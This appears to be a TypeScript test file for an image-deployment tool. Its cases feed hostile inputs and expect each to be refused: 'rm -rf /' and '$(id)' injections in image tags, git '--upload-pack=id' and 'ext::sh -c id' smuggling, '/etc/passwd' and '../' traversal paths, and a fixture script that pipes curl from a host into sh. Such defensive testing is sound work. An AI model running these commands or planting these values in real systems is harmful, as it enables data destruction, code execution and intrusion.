/**
 * Image-deployer cases of the hostile-input corpus: image references built to reach a shell,
 * names and branches built to leave images/, hostile files already in the manifests
 * repository, and hostile service templates folders (`templates`) in the service repository.
 * Each case gets its own repository on the test git server; afterwards its branches must be
 * exactly as before (nothing committed, no branch created).
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parseAllDocuments, type Document } from 'yaml'
import { aliasBomb } from './cases-render.js'

export interface BumpCase {
  readonly name: string
  /** Inputs over the defaults (repository, token, image, branch, built-at). */
  readonly inputs: Readonly<Record<string, string>>
  /** Files of the manifests repository over the seed: path → file under corpus/image-deployer/, or content. */
  readonly seed?: Readonly<Record<string, { corpus: string } | { content: string }>>
  /** `kit bump` arguments after --repository (KIT_TOKEN is set); null when the case has no CLI form. */
  readonly kitArgs?: readonly string[] | null
  readonly where: RegExp
  /**
   * For inputs whose correct outcome is a commit (a branch name that only looks like a path):
   * the files the commit may change. The commit must touch exactly these.
   */
  readonly commits?: readonly string[]
  /** With `commits`: checks of a committed file's new content (path → the problems found). */
  readonly committed?: Readonly<Record<string, (text: string) => string[]>>
  /**
   * The service repository the case's `templates` are read from: path → file. The runner makes
   * it the action's GITHUB_WORKSPACE and `kit bump`'s current folder.
   */
  readonly service?: Readonly<Record<string, ServiceFile>>
  /** Further problems the same run must report (every problem is listed at once). */
  readonly alsoReports?: readonly RegExp[]
}

/** A file of a case's service repository: text, raw bytes, or a symbolic link to `symlink`. */
export type ServiceFile = { content: string } | { bytes: Buffer } | { symlink: string }

/** The manifests repository every case starts from. */
export const bumpSeed: Readonly<Record<string, string>> = {
  'README.md': '# manifests\n',
  'images/api/main.yaml':
    "image: ghcr.io/acme/api:1.0.0\nsource:\n  repository: acme/api\n  builtAt: '2026-01-01T00:00:00Z'\n",
  'helm/values.yaml': 'image:\n  repository: ghcr.io/acme/api\n  tag: 1.0.0 # bumped by kit\n',
  'deploy/api.yaml':
    'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: api}\nspec:\n  template:\n    spec:\n      containers:\n        - name: api\n          image: ghcr.io/acme/api:1.0.0\n'
}

/** Reads a corpus file as the seed content (binary-safe through latin1 is not needed: UTF-8 or not, bytes go as is). */
export function seedContent(
  corpusDir: string,
  spec: { corpus: string } | { content: string }
): Buffer {
  return 'corpus' in spec
    ? readFileSync(join(corpusDir, 'image-deployer', spec.corpus))
    : Buffer.from(spec.content, 'utf8')
}

/** The action names its input, kit its flag. */
const image = (ref: string, where = /Input 'image'|--image/): BumpCase => ({
  name: `image reference ${JSON.stringify(ref).slice(0, 60)}`,
  inputs: { image: ref },
  kitArgs: ['--image', ref, '--branch', 'main'],
  where
})

export function bumpCases(): BumpCase[] {
  const kit = (...args: string[]): string[] => [
    '--image',
    'ghcr.io/acme/api:1.2.3',
    '--branch',
    'main',
    ...args
  ]
  return [
    // Shell metacharacters and malformed references.
    image('ghcr.io/acme/api:1.2.3;rm -rf /'),
    image('ghcr.io/acme/api:$(id)'),
    image('ghcr.io/acme/api:`id`'),
    image('ghcr.io/acme/api:1|cat /etc/passwd'),
    image('ghcr.io/acme/api:1 2'),
    image('ghcr.io/acme/api:1\nimage: evil'),
    image('ghcr.io/acme/api&&id:1'),
    image(`ghcr.io/acme/api:${'t'.repeat(200)}`),
    image('ghcr.io/Acme/API:1.2.3'),
    image('ghcr.io/acme/api@sha256:abc123'),
    image(`ghcr.io/acme/api@sha256:${'a'.repeat(65)}`),
    image(`ghcr.io/acme/api:1@md5:${'a'.repeat(32)}`, /Input 'image'|digest/),
    {
      name: 'digest input of the wrong length',
      inputs: { digest: 'sha256:1234' },
      kitArgs: kit('--digest', 'sha256:1234'),
      where: /digest/
    },
    {
      name: "image-repository '../../etc'",
      inputs: { image: '', 'image-repository': '../../etc', tag: '1' },
      kitArgs: null,
      where: /image-repository/
    },
    {
      name: "tag 'feature/x' (a raw branch name)",
      inputs: { image: '', 'image-repository': 'acme/api', tag: 'feature/x' },
      kitArgs: null,
      where: /\btag\b/
    },
    {
      name: "registry 'evil.com;id'",
      inputs: { image: '', registry: 'evil.com;id', 'image-repository': 'acme/api', tag: '1' },
      kitArgs: null,
      where: /registry/
    },
    {
      name: 'registry given with a full image',
      inputs: { registry: 'ghcr.io' },
      kitArgs: null,
      where: /registry/
    },
    // Names that become paths in the manifests repository.
    {
      name: "image-name '../../etc'",
      inputs: { 'image-name': '../../etc' },
      kitArgs: kit('--image-name', '../../etc'),
      where: /image-name/
    },
    {
      name: "image-name '/abs'",
      inputs: { 'image-name': '/abs' },
      kitArgs: kit('--image-name', '/abs'),
      where: /image-name/
    },
    {
      name: "image-name '%2e%2e'",
      inputs: { 'image-name': '%2e%2e' },
      kitArgs: kit('--image-name', '%2e%2e'),
      where: /image-name/
    },
    {
      name: 'image-name with a newline',
      inputs: { 'image-name': 'api\nother' },
      kitArgs: kit('--image-name', 'api\nother'),
      where: /image-name/
    },
    {
      name: 'image-name of 300 characters',
      inputs: { 'image-name': 'n'.repeat(300) },
      kitArgs: kit('--image-name', 'n'.repeat(300)),
      where: /image-name/
    },
    {
      name: "branch '../../x'",
      inputs: { branch: '../../x' },
      kitArgs: ['--image', 'ghcr.io/acme/api:1.2.3', '--branch', '../../x'],
      where: /\bbranch\b/
    },
    {
      name: "branch '/abs'",
      inputs: { branch: '/abs' },
      kitArgs: ['--image', 'ghcr.io/acme/api:1.2.3', '--branch', '/abs'],
      where: /\bbranch\b/
    },
    {
      name: 'branch with a newline',
      inputs: { branch: 'main\nevil' },
      kitArgs: ['--image', 'ghcr.io/acme/api:1.2.3', '--branch', 'main\nevil'],
      where: /\bbranch\b/
    },
    {
      name: 'branch of 300 characters',
      inputs: { branch: 'b'.repeat(300) },
      kitArgs: ['--image', 'ghcr.io/acme/api:1.2.3', '--branch', 'b'.repeat(300)],
      where: /\bbranch\b/
    },
    {
      name: "branch '%2e%2e/%2e%2e' (a legal branch: encoded, stays in images/api/)",
      inputs: { branch: '%2e%2e/%2e%2e' },
      kitArgs: null,
      where: /./,
      commits: ['images/api/%252e%252e%2F%252e%252e.yaml']
    },
    {
      name: "target-branch '../main'",
      inputs: { 'target-branch': '../main' },
      kitArgs: kit('--target-branch', '../main'),
      where: /target-branch/
    },
    {
      name: "target-branch 'main:refs/heads/evil'",
      inputs: { 'target-branch': 'main:refs/heads/evil' },
      kitArgs: kit('--target-branch', 'main:refs/heads/evil'),
      where: /target-branch/
    },
    {
      name: "target-branch '--upload-pack=id'",
      inputs: { 'target-branch': '--upload-pack=id' },
      kitArgs: kit('--target-branch=--upload-pack=id'),
      where: /target-branch/
    },
    {
      name: "target-branch 'main;id'",
      inputs: { 'target-branch': 'main;id' },
      kitArgs: kit('--target-branch', 'main;id'),
      where: /target-branch/
    },
    {
      name: "images-dir '/../outside'",
      inputs: { 'images-dir': '/../outside' },
      kitArgs: kit('--images-dir', '/../outside'),
      where: /images-dir/
    },
    {
      name: "images-dir 'a/../../b'",
      inputs: { 'images-dir': 'a/../../b' },
      kitArgs: kit('--images-dir', 'a/../../b'),
      where: /images-dir/
    },
    {
      name: 'images-dir with a newline',
      inputs: { 'images-dir': 'images\nx' },
      kitArgs: kit('--images-dir', 'images\nx'),
      where: /images-dir/
    },
    {
      name: "values '../x.yaml:image'",
      inputs: { values: '../x.yaml:image' },
      kitArgs: kit('--values', '../x.yaml:image'),
      where: /values/
    },
    {
      name: "values '/etc/passwd:root'",
      inputs: { values: '/etc/passwd:root' },
      kitArgs: kit('--values', '/etc/passwd:root'),
      where: /values/
    },
    {
      name: "values field '=evil'",
      inputs: { values: 'helm/values.yaml:image.tag=evil' },
      kitArgs: kit('--values', 'helm/values.yaml:image.tag=evil'),
      where: /values/
    },
    {
      name: "manifests '../../x.yaml'",
      inputs: { manifests: '../../x.yaml' },
      kitArgs: kit('--manifests', '../../x.yaml'),
      where: /manifests/
    },
    {
      name: "manifests '/etc/passwd'",
      inputs: { manifests: '/etc/passwd' },
      kitArgs: kit('--manifests', '/etc/passwd'),
      where: /manifests/
    },
    {
      name: "manifests glob '../**'",
      inputs: { manifests: '../**' },
      kitArgs: kit('--manifests', '../**'),
      where: /manifests/
    },
    // Repositories that are not repositories.
    {
      name: "repository 'ext::sh -c id'",
      inputs: { repository: 'ext::sh -c id' },
      kitArgs: null,
      where: /repository/
    },
    {
      name: "repository '--upload-pack=id'",
      inputs: { repository: '--upload-pack=id' },
      kitArgs: null,
      where: /repository/
    },
    {
      name: 'repository URL with credentials',
      inputs: { repository: 'https://user:hunter2-corpus@example.com/acme/m.git' },
      kitArgs: null,
      where: /repository.*credentials/
    },
    // Hostile files already in the manifests repository.
    {
      name: 'existing image file: malformed YAML',
      inputs: {},
      seed: { 'images/api/main.yaml': { corpus: 'image-file-malformed.yaml' } },
      kitArgs: kit(),
      where: /images\/api\/main\.yaml:\d+/
    },
    {
      name: 'existing image file: duplicate keys',
      inputs: {},
      seed: { 'images/api/main.yaml': { corpus: 'image-file-duplicate-keys.yaml' } },
      kitArgs: kit(),
      where: /images\/api\/main\.yaml:2(:\d+)?: .*unique/
    },
    {
      name: 'existing image file: invalid UTF-8',
      inputs: {},
      seed: { 'images/api/main.yaml': { corpus: 'image-file-invalid-utf8.yaml' } },
      kitArgs: kit(),
      where: /images\/api\/main\.yaml(:\d+)?: .*UTF-8/
    },
    {
      name: 'existing image file: NUL byte',
      inputs: {},
      seed: { 'images/api/main.yaml': { corpus: 'image-file-nul-byte.yaml' } },
      kitArgs: kit(),
      where: /images\/api\/main\.yaml(:\d+){0,2}: /
    },
    {
      name: 'existing image file: a list',
      inputs: {},
      seed: { 'images/api/main.yaml': { corpus: 'image-file-not-a-mapping.yaml' } },
      kitArgs: kit(),
      where: /images\/api\/main\.yaml(:\d+)?: .*mapping/
    },
    {
      name: 'existing image file: alias bomb',
      inputs: {},
      seed: { 'images/api/main.yaml': { content: aliasBomb('image') } },
      kitArgs: kit(),
      where: /images\/api\/main\.yaml:\d+: .*alias/
    },
    {
      name: 'existing image file: 6 MB',
      inputs: {},
      seed: {
        'images/api/main.yaml': {
          content: `image: ghcr.io/acme/api:1.0.0\n${`# ${'x'.repeat(1021)}\n`.repeat(6 * 1024)}`
        }
      },
      kitArgs: kit(),
      where: /images\/api\/main\.yaml(:\d+)?: .*larger than/
    },
    {
      name: 'existing image file: 10,000 nested flow maps',
      inputs: {},
      seed: {
        'images/api/main.yaml': {
          content: `image: ghcr.io/acme/api:1.0.0\nx: ${'{a: '.repeat(10_000)}1${'}'.repeat(10_000)}\n`
        }
      },
      kitArgs: kit(),
      where: /images\/api\/main\.yaml:\d+: .*(nest|deep|depth)/i
    },
    {
      name: 'manifest to retag: malformed YAML',
      inputs: { manifests: 'deploy/api.yaml', 'image-file': 'false' },
      seed: { 'deploy/api.yaml': { corpus: 'manifest-malformed.yaml' } },
      kitArgs: kit('--manifests', 'deploy/api.yaml', '--no-image-file'),
      where: /deploy\/api\.yaml:\d+/
    },
    {
      name: 'values file: duplicate keys',
      inputs: { values: 'helm/values.yaml:image.tag=tag', 'image-file': 'false' },
      seed: { 'helm/values.yaml': { corpus: 'values-duplicate-keys.yaml' } },
      kitArgs: kit('--values', 'helm/values.yaml:image.tag=tag', '--no-image-file'),
      where: /helm\/values\.yaml:3(:\d+)?: .*unique/
    },
    // The time budget: no budget at all, one that is not a duration, one past a week.
    ...['0s', 'until it works', '999999999h'].map((value): BumpCase => ({
      name: `timeout ${JSON.stringify(value)}`,
      inputs: { timeout: value },
      kitArgs: kit('--timeout', value),
      where: /Input 'timeout'|--timeout/
    })),
    ...yamlClassBumpCases(kit),
    ...templateBumpCases(kit)
  ]
}

/** The container images a committed manifest runs, read with merge keys applied. */
function imagesRun(text: string): string[] {
  const out: string[] = []
  const walk = (v: unknown, key?: string): void => {
    if (Array.isArray(v)) v.forEach((item) => walk(item, key))
    else if (v && typeof v === 'object')
      for (const [k, child] of Object.entries(v)) {
        if (key === 'containers' && k === 'image') out.push(String(child))
        else walk(child, k)
      }
  }
  for (const doc of parseAllDocuments(text, { merge: true }) as Document[]) walk(doc.toJS())
  return out
}

/**
 * YAML merge keys in the files a bump edits (valid: the image the container runs is the one
 * retagged, and a merged value is changed for its own path only), tags kit does not know
 * (refused with file and line, nothing committed), and large values (a legal one is edited in
 * place; a file past the limit is refused with the line and the limit).
 */
function yamlClassBumpCases(kit: (...args: string[]) => string[]): BumpCase[] {
  const manifestOnly = { manifests: 'deploy/api.yaml', 'image-file': 'false' }
  const valuesOnly = { values: 'helm/values.yaml:image.tag=tag', 'image-file': 'false' }
  const mergedManifest = [
    'x-api: &api',
    '  name: api',
    '  image: ghcr.io/acme/api:1.0.0',
    'apiVersion: apps/v1',
    'kind: Deployment',
    'metadata: {name: api}',
    'spec:',
    '  template:',
    '    spec:',
    '      containers:',
    '        - <<: *api',
    '          ports: [{containerPort: 80}]',
    '        - <<: *api',
    '          name: sidecar',
    '          image: ghcr.io/acme/sidecar:1',
    ''
  ].join('\n')
  const runs =
    (...want: string[]) =>
    (text: string): string[] => {
      const got = imagesRun(text)
      return got.join(',') === want.join(',')
        ? []
        : [`runs ${got.join(', ')}, expected ${want.join(', ')}`]
    }
  const big = 'x'.repeat(3 * 1024 * 1024)
  return [
    {
      name: 'YAML merge key (valid): a container whose image comes from an anchor',
      inputs: manifestOnly,
      seed: { 'deploy/api.yaml': { content: mergedManifest } },
      kitArgs: null,
      where: /./,
      commits: ['deploy/api.yaml'],
      committed: { 'deploy/api.yaml': runs('ghcr.io/acme/api:1.2.3', 'ghcr.io/acme/sidecar:1') }
    },
    {
      name: "YAML merge key (valid): a values path whose last key is merged gets the map's own key",
      inputs: valuesOnly,
      seed: {
        'helm/values.yaml': {
          content:
            'base: &base\n  repository: ghcr.io/acme/api\n  tag: 1.0.0\nimage:\n  <<: *base\nstaging:\n  <<: *base\n'
        }
      },
      kitArgs: null,
      where: /./,
      commits: ['helm/values.yaml'],
      committed: {
        'helm/values.yaml': (text) => {
          const docs = parseAllDocuments(text, { merge: true }) as Document[]
          const js = docs[0].toJS() as Record<string, { tag?: string } | undefined>
          const tags = [js.image?.tag, js.staging?.tag, js.base?.tag]
          return tags.join(',') === '1.2.3,1.0.0,1.0.0'
            ? []
            : [`image, staging and base tags are ${tags.join(', ')}`]
        }
      }
    },
    {
      name: 'YAML merge key: a values path through a merged map (refused)',
      inputs: valuesOnly,
      seed: { 'helm/values.yaml': { content: 'common: &c\n  image: {tag: 1.0.0}\n<<: *c\n' } },
      kitArgs: kit('--values', 'helm/values.yaml:image.tag=tag', '--no-image-file'),
      where: /helm\/values\.yaml:3(:\d+)?: .*merge key/
    },
    {
      name: 'unknown YAML tag in a manifest to retag',
      inputs: manifestOnly,
      seed: {
        'deploy/api.yaml': {
          content: bumpSeed['deploy/api.yaml'].replace('image: ghcr', 'image: !Image ghcr')
        }
      },
      kitArgs: kit('--manifests', 'deploy/api.yaml', '--no-image-file'),
      where: /deploy\/api\.yaml:9(:\d+)?: .*YAML tag !Image is not accepted/
    },
    {
      name: 'unknown YAML tag in a values file',
      inputs: valuesOnly,
      seed: {
        'helm/values.yaml': { content: 'image:\n  repository: !!js/undefined ""\n  tag: 1.0.0\n' }
      },
      kitArgs: kit('--values', 'helm/values.yaml:image.tag=tag', '--no-image-file'),
      where: /helm\/values\.yaml:2(:\d+)?: .*YAML tag !!js\/undefined is not accepted/
    },
    {
      name: 'unknown YAML tag in an existing image file',
      inputs: {},
      seed: {
        'images/api/main.yaml': {
          content: "image: ghcr.io/acme/api:1.0.0\nsource:\n  builtAt: !!timestamp '2026-01-01'\n"
        }
      },
      kitArgs: kit(),
      where: /images\/api\/main\.yaml:3(:\d+)?: .*YAML tag !!timestamp is not accepted/
    },
    {
      name: 'large legal value: a manifest with a 3 MiB annotation is retagged in place',
      inputs: manifestOnly,
      seed: {
        'deploy/api.yaml': {
          content: bumpSeed['deploy/api.yaml'].replace(
            'metadata: {name: api}',
            `metadata: {name: api, annotations: {note: ${big}}}`
          )
        }
      },
      kitArgs: null,
      where: /./,
      commits: ['deploy/api.yaml'],
      committed: { 'deploy/api.yaml': runs('ghcr.io/acme/api:1.2.3') }
    },
    {
      name: 'a manifest to retag just over the 4 MiB limit',
      inputs: manifestOnly,
      seed: {
        'deploy/api.yaml': {
          content: `${bumpSeed['deploy/api.yaml']}# ${'x'.repeat(4 * 1024 * 1024)}\n`
        }
      },
      kitArgs: kit('--manifests', 'deploy/api.yaml', '--no-image-file'),
      where: /deploy\/api\.yaml:10(:\d+)?: .*larger than the 4 MiB limit/
    }
  ]
}

/** A valid templates folder in the service repository: every case changes one thing in it. */
const serviceTemplates: Readonly<Record<string, ServiceFile>> = {
  'deploy/kit/deployment.yaml': {
    content: [
      'apiVersion: apps/v1',
      'kind: Deployment',
      'metadata:',
      '  name: api',
      '  namespace: acme',
      'spec:',
      '  replicas: ${{ values.replicas }}',
      '  selector: {matchLabels: {app: api}}',
      '  template:',
      '    metadata: {labels: {app: api}}',
      '    spec:',
      '      containers:',
      '        - name: api',
      '          image: ${{ image }}',
      ''
    ].join('\n')
  },
  'deploy/kit/values.yaml': { content: 'replicas: 2\n' },
  'deploy/kit/kit.yaml': { content: 'image: api\n' }
}

/** A small valid manifest, for cases that need a file of their own next to the valid ones. */
const configMap = (name: string, extra = ''): string =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: ${name}\n  namespace: acme\n${extra}`

/** A valid manifest of `bytes` bytes (a comment fills it: the size is the only problem). */
const sizedManifest = (name: string, bytes: number): string => {
  const head = configMap(name)
  const line = `# ${'x'.repeat(1021)}\n`
  const lines = Math.ceil((bytes - head.length) / line.length)
  return head + line.repeat(lines)
}

/**
 * The manifests repository of the render-check cases: a cluster following `main` that renders
 * api from the templates the service repository records (`templates: service`).
 */
const followsMainWithServiceTemplates: NonNullable<BumpCase['seed']> = {
  'kit.yaml': { content: 'defaults:\n  branch: main\n  missingImage: error\n' },
  'groups/production.yaml': { content: 'branch: main\n' },
  'clusters/prod-1.yaml': {
    content: 'groups: [production]\nservices:\n  api:\n    templates: service\n'
  }
}

/**
 * A service's own templates (`templates`, `service`, `service-templates-dir`): every way a
 * templates folder could reach outside its service or carry what the deploymentizer cannot
 * read is refused before anything is written, naming the file (and line); a template that does
 * not render on a cluster following the branch is refused with the service repository's file
 * and line.
 */
function templateBumpCases(kit: (...args: string[]) => string[]): BumpCase[] {
  const folder = 'deploy/kit'
  const at = (...files: [string, ServiceFile][]): Record<string, ServiceFile> => ({
    ...serviceTemplates,
    ...Object.fromEntries(files)
  })
  /** A case reading the templates folder `deploy/kit` of the service repository `service`. */
  const files = (
    name: string,
    service: Record<string, ServiceFile>,
    where: RegExp,
    extra: Partial<BumpCase> = {}
  ): BumpCase => ({
    name,
    inputs: { templates: folder },
    service,
    kitArgs: kit('--templates', folder),
    where,
    ...extra
  })
  /** A case whose `templates` value itself is refused. */
  const templatesValue = (
    name: string,
    value: string,
    where: RegExp,
    service = serviceTemplates
  ): BumpCase => ({
    name,
    inputs: { templates: value },
    service,
    kitArgs: kit('--templates', value),
    where
  })
  return [
    // Positive control: the same folder, valid, lands with the image in one commit.
    {
      name: 'templates folder (valid): recorded with the image in one commit',
      inputs: { templates: folder },
      service: serviceTemplates,
      seed: followsMainWithServiceTemplates,
      kitArgs: null,
      where: /./,
      commits: [
        'images/api/main.yaml',
        'service-templates/api/main.yaml',
        'service-templates/api/main/deployment.yaml',
        'service-templates/api/main/kit.yaml',
        'service-templates/api/main/values.yaml'
      ]
    },
    // The folder itself.
    templatesValue(
      "templates '../outside'",
      '../outside',
      /(Input 'templates'|--templates).*'\.\.'/
    ),
    templatesValue(
      "templates 'deploy/../../x'",
      'deploy/../../x',
      /(Input 'templates'|--templates).*'\.\.'/
    ),
    templatesValue(
      "templates '/etc' (an absolute path)",
      '/etc',
      /(Input 'templates'|--templates).*absolute/
    ),
    templatesValue(
      'templates naming a file, not a folder',
      'deploy/kit/deployment.yaml',
      /(Input 'templates'|--templates).*deploy\/kit\/deployment\.yaml.*not a folder/
    ),
    templatesValue(
      'templates naming a folder that does not exist',
      'deploy/missing',
      /(Input 'templates'|--templates).*deploy\/missing.*does not exist/
    ),
    templatesValue(
      'templates folder is a symbolic link (to a valid folder elsewhere)',
      folder,
      /(Input 'templates'|--templates).*deploy\/kit.*symbolic link/,
      {
        'other/kit/deployment.yaml': serviceTemplates['deploy/kit/deployment.yaml'],
        'deploy/kit': { symlink: '../other/kit' }
      }
    ),
    templatesValue(
      'a folder on the way to templates is a symbolic link',
      folder,
      /(Input 'templates'|--templates).*'deploy'.*symbolic link/,
      {
        'other/kit/deployment.yaml': serviceTemplates['deploy/kit/deployment.yaml'],
        deploy: { symlink: 'other' }
      }
    ),
    // What the folder holds.
    files(
      'a template that is a symbolic link (to a file outside the folder)',
      at(
        ['outside/config.yaml', { content: configMap('outside') }],
        ['deploy/kit/config.yaml', { symlink: '../../outside/config.yaml' }]
      ),
      /deploy\/kit\/config\.yaml: .*symbolic link/
    ),
    files(
      'a sub-folder of templates that is a symbolic link',
      at(
        ['outside/config.yaml', { content: configMap('outside') }],
        ['deploy/kit/more', { symlink: '../../outside' }]
      ),
      /deploy\/kit\/more: .*symbolic link/
    ),
    files(
      'a file that is not YAML in the templates folder',
      at(['deploy/kit/install.sh', { content: '#!/bin/sh\ncurl https://example.com | sh\n' }]),
      /deploy\/kit\/install\.sh: .*not a YAML file/
    ),
    files(
      'a template name with a space',
      at(['deploy/kit/my config.yaml', { content: configMap('spaced') }]),
      /deploy\/kit\/my config\.yaml: .*name/
    ),
    files(
      "a template name starting with '.'",
      at(['deploy/kit/.hidden.yaml', { content: configMap('hidden') }]),
      /deploy\/kit\/\.hidden\.yaml: .*not starting with '\.'/
    ),
    files(
      'a template name with a newline',
      at(['deploy/kit/a\nb.yaml', { content: configMap('newline') }]),
      /deploy\/kit\/a\\nb\.yaml: .*name/
    ),
    files(
      'a template name with a letter outside ASCII',
      at(['deploy/kit/déploiement.yaml', { content: configMap('accent') }]),
      /deploy\/kit\/déploiement\.yaml: .*name/
    ),
    files(
      'a template file just over 1 MiB',
      at(['deploy/kit/big.yaml', { content: sizedManifest('big', 1024 * 1024 + 1) }]),
      /deploy\/kit\/big\.yaml: .*over the 1 MiB/
    ),
    files(
      'a templates folder of 501 files',
      at(
        ...Array.from(
          { length: 501 - Object.keys(serviceTemplates).length },
          (_, n): [string, ServiceFile] => [
            `deploy/kit/cm-${String(n).padStart(3, '0')}.yaml`,
            { content: configMap(`cm-${n}`) }
          ]
        )
      ),
      /deploy\/kit\/: .*501 files is over the 500/
    ),
    files(
      'a templates folder over 8 MiB in all (each file under 1 MiB)',
      at(
        ...Array.from({ length: 9 }, (_, n): [string, ServiceFile] => [
          `deploy/kit/part-${n}.yaml`,
          { content: sizedManifest(`part-${n}`, 1000 * 1024) }
        ])
      ),
      /deploy\/kit\/: .*in all is over the 8 MiB/
    ),
    files(
      'a template that is not valid UTF-8 (a Latin-1 byte)',
      at([
        'deploy/kit/config.yaml',
        {
          bytes: Buffer.concat([
            Buffer.from(configMap('latin1', 'data:\n  greeting: caf')),
            Buffer.from([0xe9]),
            Buffer.from('\n')
          ])
        }
      ]),
      /deploy\/kit\/config\.yaml:7(:\d+)?: .*UTF-8/
    ),
    files(
      'a template starting with a byte order mark',
      at([
        'deploy/kit/config.yaml',
        { bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(configMap('bom'))]) }
      ]),
      /deploy\/kit\/config\.yaml(:1)?: .*byte order mark/
    ),
    files(
      'a template with a YAML syntax error',
      at(['deploy/kit/config.yaml', { content: configMap('broken', 'data: {greeting: hello\n') }]),
      /deploy\/kit\/config\.yaml:\d+/
    ),
    files(
      'a template with a YAML tag kit does not know',
      at([
        'deploy/kit/config.yaml',
        { content: configMap('tagged', 'data:\n  token: !vault secret/api\n') }
      ]),
      /deploy\/kit\/config\.yaml:7(:\d+)?: .*!vault/
    ),
    files(
      'values.yaml of the templates with a YAML tag kit does not know',
      at(['deploy/kit/values.yaml', { content: 'replicas: !!js/function "() => 2"\n' }]),
      /deploy\/kit\/values\.yaml:1(:\d+)?: .*!!js\/function/
    ),
    files(
      'a templates folder with no manifest (only values.yaml and kit.yaml)',
      {
        'deploy/kit/values.yaml': serviceTemplates['deploy/kit/values.yaml'],
        'deploy/kit/kit.yaml': serviceTemplates['deploy/kit/kit.yaml']
      },
      /deploy\/kit\/: .*no templates/
    ),
    files(
      'every problem of a templates folder in one run',
      at(
        ['deploy/kit/install.sh', { content: 'echo hi\n' }],
        ['deploy/kit/config.yaml', { content: configMap('broken', 'data: {greeting: hello\n') }]
      ),
      /deploy\/kit\/(config\.yaml:\d+|install\.sh): /,
      {
        alsoReports: [
          /deploy\/kit\/config\.yaml:\d+/,
          /deploy\/kit\/install\.sh: .*not a YAML file/
        ]
      }
    ),
    // The names the templates are written under in the manifests repository.
    {
      name: "service 'Api_1' (not a DNS label)",
      inputs: { templates: folder, service: 'Api_1' },
      service: serviceTemplates,
      kitArgs: kit('--templates', folder, '--service', 'Api_1'),
      where: /(Input 'service'|--service).*DNS label/
    },
    {
      name: "service '../images' (not a DNS label)",
      inputs: { templates: folder, service: '../images' },
      service: serviceTemplates,
      kitArgs: kit('--templates', folder, '--service', '../images'),
      where: /(Input 'service'|--service).*DNS label/
    },
    {
      name: "service-templates-dir '../outside'",
      inputs: { templates: folder, 'service-templates-dir': '../outside' },
      service: serviceTemplates,
      kitArgs: kit('--templates', folder, '--service-templates-dir', '../outside'),
      where: /service-templates-dir/
    },
    // Rendered before the commit, on the clusters that follow the branch.
    files(
      'a template that does not render on a cluster following the branch (unknown value)',
      at([
        'deploy/kit/deployment.yaml',
        {
          content: (
            serviceTemplates['deploy/kit/deployment.yaml'] as { content: string }
          ).content.replace('values.replicas', 'values.nope')
        }
      ]),
      /deploy\/kit\/deployment\.yaml:7(:\d+)?: .*nope/,
      { seed: followsMainWithServiceTemplates }
    )
  ]
}
